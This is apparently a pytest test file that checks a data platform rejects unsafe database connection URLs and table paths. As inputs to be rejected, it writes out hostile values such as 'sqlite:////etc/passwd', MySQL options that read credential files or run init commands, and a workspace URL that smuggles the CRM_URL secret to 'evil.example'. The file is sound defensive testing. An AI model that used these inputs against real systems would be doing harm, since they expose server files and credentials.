"""What a source may lead to, when a person names it: nothing of this machine, and no secret of this installation."""

from pathlib import Path
from typing import Any

import pytest

from core.errors import InvalidInput
from core.sections import ApplyContext
from sources import services
from sources.connectors.base import Access
from sources.connectors.sql import address
from sources.models import Source
from workspace import services as workspace
from workspace.document import parse


def sql(url: str, by: Any, **secrets: str) -> Source:
    return services.create_source(name="crm", connector="sql", secrets={"url": url, **secrets}, by=by)


@pytest.mark.parametrize(
    "url",
    [
        "postgresql:///kindred",
        "postgresql://postgres@/kindred",
        "postgresql://postgres@/kindred?host=/run/kindred",
        "postgresql://postgres@/kindred?host=db.example,/run/kindred",
        "postgresql://postgres@db.example/kindred?host=@abstract",
        "postgresql://db.example/kindred?sslkey=/etc/ssl/private/key.pem",
        "mysql://root@db.example/kindred?unix_socket=/run/mysqld/mysqld.sock",
        "sqlite:////etc/passwd",
    ],
)
def test_a_person_names_neither_sockets_nor_files_of_the_server(url: str, analyst: Any, settings: Any) -> None:
    with pytest.raises(InvalidInput, match="not below a folder"):
        sql(url, analyst)
    settings.SOURCE_PATHS = ["/run", "/var/run", "/etc", "@abstract"]
    if "@abstract" not in url:
        assert isinstance(sql(url, analyst), Source)


def test_the_command_line_may_name_a_socket(db: None) -> None:
    assert isinstance(sql("postgresql://postgres@/kindred?host=/run/kindred", None), Source)


@pytest.mark.parametrize(
    ("url", "option"),
    [
        ("postgresql://db.example/kindred?options=-c%20default_transaction_read_only%3Doff", "options"),
        ("postgresql://db.example/kindred?service=kindred", "service"),
        ("mysql://db.example/kindred?read_default_file=/etc/mysql/debian.cnf", "read_default_file"),
        ("mysql://db.example/kindred?init_command=drop", "init_command"),
    ],
)
def test_an_address_says_nothing_that_reads_or_runs_other_things(url: str, option: str) -> None:
    with pytest.raises(InvalidInput, match=f"“{option}”, which is not understood"):
        address(Access("crm", {}, {"url": url}))


def test_an_address_may_ask_for_encryption(analyst: Any) -> None:
    assert isinstance(sql("postgresql://crm@db.example:5433/crm?sslmode=require", analyst), Source)


def test_a_stored_password_goes_to_no_other_server(analyst: Any) -> None:
    source = sql("postgresql://crm@db.example/crm", analyst, password="secret")
    with pytest.raises(InvalidInput, match="Type the password again"):
        services.save_source(source, secrets={"url": "postgresql://crm@elsewhere.example/crm"}, by=analyst)
    services.save_source(source, secrets={"url": "postgresql://crm@db.example/other"}, by=analyst)
    again = {"url": "postgresql://crm@elsewhere.example/crm", "password": "typed"}
    assert services.save_source(source, secrets=again, by=analyst).secrets == again


@pytest.mark.parametrize(
    "path", ["file:///etc/tables", "FILE:///etc/tables", "file:/etc/tables", "file://localhost/etc"]
)
def test_a_delta_table_of_the_server_is_a_folder_however_it_is_written(path: str, analyst: Any, settings: Any) -> None:
    source = services.create_source(name="lake", connector="delta", by=analyst)
    with pytest.raises(InvalidInput, match="not below a folder"):
        services.save_table(source, name="orders", config={"path": path}, by=analyst)


@pytest.mark.parametrize("path", ["http://10.0.0.1/tables", "memory:///tables", "s3:/bucket/tables"])
def test_a_delta_table_is_in_a_folder_or_a_store(path: str, analyst: Any) -> None:
    source = services.create_source(name="lake", connector="delta", by=analyst)
    with pytest.raises(InvalidInput, match="Name a folder, or an address"):
        services.save_table(source, name="orders", config={"path": path}, by=analyst)


def test_a_delta_table_in_a_store_may_be_named(analyst: Any) -> None:
    source = services.create_source(name="lake", connector="delta", by=analyst)
    saved = services.save_table(source, name="orders", config={"path": "s3://bucket/orders"}, by=analyst)
    assert saved.config["path"] == "s3://bucket/orders"


FILE = "kindred: 1\nsources: [{name: crm, connector: sql, url: '%s', tables: [{name: people, table: people}]}]\n"


def apply(text: str, folder: Path, by: Any) -> None:
    workspace.apply(parse(text, "workspace.yaml"), ApplyContext(folder, by))


def test_an_uploaded_file_reads_no_secret_of_the_installation(
    admin: Any, settings: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("CRM_URL", "postgresql://crm@db.example/crm")
    text = FILE % "postgresql://${CRM_URL}@evil.example/crm"
    with pytest.raises(InvalidInput, match="may not read the environment variable CRM_URL"):
        apply(text, tmp_path, admin)
    settings.WORKSPACE_VARIABLES = ["CRM_URL"]
    apply(FILE % "${CRM_URL}", tmp_path, admin)
    assert (Source.objects.get(name="crm").secrets or {})["url"] == "postgresql://crm@db.example/crm"
    settings.WORKSPACE_VARIABLES = []
    apply(FILE % "${CRM_URL}", tmp_path, admin)  # keeps what is stored
